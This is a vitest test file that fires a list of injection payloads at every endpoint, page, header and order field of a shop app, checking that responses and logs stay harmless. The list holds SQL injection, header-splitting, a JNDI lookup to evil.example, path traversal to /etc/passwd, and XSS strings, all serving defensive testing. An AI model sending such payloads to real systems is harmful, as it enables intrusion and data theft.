// T25: sends texts that are special to a database, a header, a log, a template, a path or a page to every text field.
// SQL gets them only as parameters, the log only as JSON, HTML only escaped.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ZodMiniObject } from 'zod/mini';
import { isFullRun } from '#tests/app/full-run.ts';
import {
  type Answer,
  newKey,
  order,
  orderFor,
  post,
  problemIn,
  rowCounts,
  type ServedShop,
  servedShop,
} from '#tests/app/served-shop.ts';
import { runsInPage } from '#tests/checks/executable-html.ts';
import { ANNA, makeProduct } from '#tests/factories/factories.ts';
import { endpointsOf } from '../../apps/shop/src/endpoints.ts';
import { PAGES } from '../../apps/shop/src/pages.ts';

const MARK = 'k9x7q';

const PAYLOADS: readonly string[] = [
  // SQL
  "'",
  "' or '1'='1",
  "'; drop table orders; --",
  "' union select encryption from pg_shadow --",
  "1' and pg_sleep(10)--",
  "'||(select version())||'",
  '$1',
  '$$;select 1;$$',
  "\\'; select 1; --",
  '%27%20or%201=1',
  "' or 1=1 limit 1 offset 1 -- -",
  '") or ("1"="1',
  // Headers
  '\r\nSet-Cookie: k9x7q=1',
  '\nLocation: https://evil.example/',
  '%0d%0aSet-Cookie:%20k9x7q=1',
  '\u0085x: y',
  '\u2028x: y',
  // Templates
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{constructor.constructor("return 1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
  '${jndi:ldap://evil.example/a}',
  '%s%s%s%n',
  // Paths
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd',
  'file:///etc/passwd',
  'C:\\boot.ini',
  // Logs
  '\n{"level":"fatal","msg":"k9x7q"}',
  '\u001b[31mk9x7q\u001b[0m',
  '\u0007\b\u007f',
  // Pages
  '<script>k9x7q()</script>',
  '"><img src=x onerror=k9x7q()>',
  "'onmouseover='k9x7q()",
  '</script><script>k9x7q()</script>',
  '<!--k9x7q-->',
  '</title><svg/onload=k9x7q()>',
  'javascript:k9x7q()',
  '&lt;script&gt;k9x7q()&lt;/script&gt;',
  // Bytes and letters
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\ufeff',
  '\u202ek9x7q',
  'a'.repeat(3_000),
  `a${'\u0301'.repeat(2_000)}`,
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f466}'.repeat(200),
  'ﬃ'.repeat(500),
  'İ'.repeat(500),
  '\ufdfa'.repeat(300),
  // Patterns
  `${'a'.repeat(500)}!`,
  '(a+)+$',
  `${'0'.repeat(2_000)}-`,
  // Prototypes
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
];

/** Encodes a text for a URL. Encodes halves of surrogate pairs as their bytes. */
const encoded = (text: string) =>
  [...text]
    .map((sign) =>
      /^[\ud800-\udfff]$/.test(sign)
        ? [...Buffer.from([0xed, 0xa0, 0x80])].map((byte) => `%${byte.toString(16)}`).join('')
        : encodeURIComponent(sign),
    )
    .join('');

let shop: ServedShop;
const bike = makeProduct({ id: 'injected-bike' });
beforeAll(async () => {
  shop = await servedShop();
  await shop.sell(bike);
});
afterAll(() => shop.close());

function expectHarmless(answer: Answer, payload: string): void {
  const about = JSON.stringify(payload).slice(0, 80);
  // A 503 of a busy machine is harmless. Our errors are 500.
  const isToComeBack = answer.status === 503 && answer.headers['retry-after'] !== undefined;
  if (!isToComeBack) expect(answer.status, about).toBeLessThan(500);
  expect(answer.headers['set-cookie'], about).toBeUndefined();
  expect(answer.headers.location, about).toBeUndefined();
  expect(JSON.stringify(answer.headers)).not.toContain(MARK);
  expect(answer.text).not.toMatch(/root:x:0|\[fonts\]|syntax error at or near/);
  if (/html/.test(String(answer.headers['content-type']))) {
    const ours = /^script \/assets\/|^<!-- ?-->$|^noscript$/;
    expect(
      runsInPage(answer.text).filter((one) => !ours.test(one)),
      about,
    ).toEqual([]);
  }
}

const LONG = 240_000;
// Without a sign-in, the server answers alike for all pages and endpoints that need one. So each of these gets a quarter
// of the payloads, and each payload reaches a quarter of them.
const SHARE = isFullRun() ? 1 : 4;
const isDrawn = (access: string, index: number, at: number): boolean =>
  access === 'public' || (index + at) % SHARE === 0;

describe('every parameter of every endpoint', () => {
  test('[T25] in the path', async () => {
    const paths = endpointsOf(shop.app).flatMap(({ endpoint }) =>
      endpoint.method === 'GET' ? [endpoint.path as string] : [],
    );
    const open = paths.filter((path) => path.includes(':'));
    expect(open.length).toBeGreaterThan(1);
    for (const path of open)
      for (const payload of PAYLOADS) {
        const answer = await shop.ask(path.replace(/:\w+/, encoded(payload)));
        expectHarmless(answer, payload);
        if (answer.status !== 200) problemIn(answer);
      }
  });

  test(
    '[T25] in the query, known or not, as value and as name',
    async () => {
      for (const [at, { endpoint }] of endpointsOf(shop.app).entries()) {
        if (endpoint.method !== 'GET') continue;
        const path = (endpoint.path as string).replace(/:\w+/, bike.id);
        const names = [
          ...Object.keys((endpoint.query as ZodMiniObject | undefined)?.shape ?? {}),
          'lang',
          'unknown',
        ];
        for (const [index, payload] of PAYLOADS.entries()) {
          if (!isDrawn(endpoint.access as string, index, at)) continue;
          const value = encoded(payload).slice(0, 4_000);
          const answers = await Promise.all([
            ...names.map((name) => shop.ask(`${path}?${name}=${value}`)),
            shop.ask(`${path}?${value}=1`),
          ]);
          for (const answer of answers) expectHarmless(answer, payload);
        }
      }
    },
    LONG,
  );

  test('[T25] in a field of the quote', async () => {
    for (const payload of PAYLOADS) {
      const item = { productId: bike.id, quantity: 1 };
      const bodies = [
        { items: [{ ...item, productId: payload }] },
        { items: [{ ...item, variantId: payload }] },
        { items: [item], shippingOptionId: payload },
        { items: [item], paymentMethod: payload },
        { items: [item], [payload]: 1 },
      ];
      for (const body of bodies) {
        const answer = await post(shop, '/api/cart/quote', body);
        expectHarmless(answer, payload);
        // A word that could be an id is an unknown product.
        if (answer.status === 200) expect(answer.text).toContain('"state":"not-sold"');
        else expect(problemIn(answer).status).toBe(400);
      }
    }
  });
});

describe('every field of an order', () => {
  test(
    '[T25] is stored as unchanged single-line text, or refused',
    async () => {
      const body = await orderFor(shop, [{ productId: bike.id, quantity: 1 }]);
      const roomy = { ...bike, variants: bike.variants.map((variant) => ({ ...variant, onHand: 2_000 })) };
      await shop.sell(roomy);
      for (const payload of PAYLOADS) {
        const bodies = [
          ...Object.keys(ANNA).map((field) => ({ ...body, customer: { ...ANNA, [field]: payload } })),
          { ...body, payment: { method: 'active-finance', employerCode: payload } },
          { ...body, payment: { method: 'active-finance', personalNumber: payload } },
        ];
        const answers = await Promise.all(bodies.map((one) => order(shop, one)));
        for (const answer of answers) {
          expectHarmless(answer, payload);
          expect([201, 400, 422]).toContain(answer.status);
        }
      }
      const { rows } = await shop.app.db.pool.query(
        'select first_name, last_name, email, phone, address, city, state_region, zip_code from orders',
      );
      expect(rows.length).toBeGreaterThan(20);
      const texts = rows.flatMap((row: Record<string, string>) => Object.values(row));
      expect(texts.filter((text) => /\p{Cc}/u.test(text))).toEqual([]);
      expect(texts).toContain("'; drop table orders; --");
    },
    LONG,
  );

  test('[T25] a payload as key of an order is refused', async () => {
    const body = await orderFor(shop, [{ productId: bike.id, quantity: 1 }]);
    const before = await rowCounts(shop.app);
    for (const payload of PAYLOADS.filter(
      (one) => /^[\x20-\x7e]+$/.test(one) && !/^[\w-]{20,128}$/.test(one),
    )) {
      const answer = await order(shop, body, payload);
      expect(problemIn(answer).status).toBe(400);
    }
    expect(await rowCounts(shop.app)).toEqual(before);
  });
});

describe('every page', () => {
  test(
    '[T25] in the path and in the query',
    async () => {
      const urls = PAGES.map(({ path, access }, at) => ({
        url: path === '*' ? '/:nowhere' : path,
        share: (index: number) => isDrawn(access, index, at),
      }));
      for (const [index, payload] of PAYLOADS.entries()) {
        const value = encoded(payload).slice(0, 1_200);
        const query = ['category', 'tag', 'pickCategory', 'tier', 'step', 'q', 'lang'].map(
          (name) => `${name}=${value}`,
        );
        const asked = urls
          .filter(({ share }) => share(index))
          .map(({ url }) => (url.includes(':') ? url.replace(/:\w+/, value) : `${url}?${query.join('&')}`));
        const answers = await Promise.all(asked.map((url) => shop.ask(url)));
        for (const answer of answers) expectHarmless(answer, payload);
      }
    },
    LONG,
  );

  test('[T25] a drawing with a name of any kind', async () => {
    for (const payload of PAYLOADS) {
      const answer = await shop.ask(`/art/${encoded(payload).slice(0, 1_500)}.svg`);
      expectHarmless(answer, payload);
      expect(answer.status).toBeGreaterThanOrEqual(400);
    }
  });
});

describe('headers and log', () => {
  test('[T25] payloads in headers change nothing', async () => {
    const clean = (await shop.ask('/api/products')).text;
    for (const payload of PAYLOADS.filter((one) => /^[\x20-\x7e]+$/.test(one)))
      for (const name of [
        'cookie',
        'user-agent',
        'referer',
        'accept-language',
        'x-request-id',
        'x-forwarded-for',
        'if-none-match',
      ]) {
        const answer = await shop.ask('/api/products', { headers: { [name]: payload.slice(0, 2_000) } });
        expectHarmless(answer, payload);
        expect([clean, '']).toContain(answer.text);
        expect(answer.headers['x-request-id'] ?? 'none').not.toContain(payload);
      }
  });

  test('[T25] the log has one JSON object per line, and no line contains user input', async () => {
    const text = shop.logLines.join('');
    const lines = text.split('\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(1_000);
    for (const line of lines) expect(() => JSON.parse(line) as unknown).not.toThrow();
    expect(lines.filter((line) => line.includes(MARK) || line.includes('evil.example'))).toEqual([]);
    expect(lines.filter((line) => /"level":"(error|fatal)"/.test(line))).toEqual([]);
    for (const value of Object.values(ANNA)) expect(text).not.toContain(value);
  });

  test('[T25] order data is passed as statement parameters, so all tables still exist', async () => {
    expect(Object.keys(await rowCounts(shop.app))).toEqual(
      expect.arrayContaining(['orders', 'products', 'payments']),
    );
    expect(newKey()).not.toBe(newKey());
  });
});
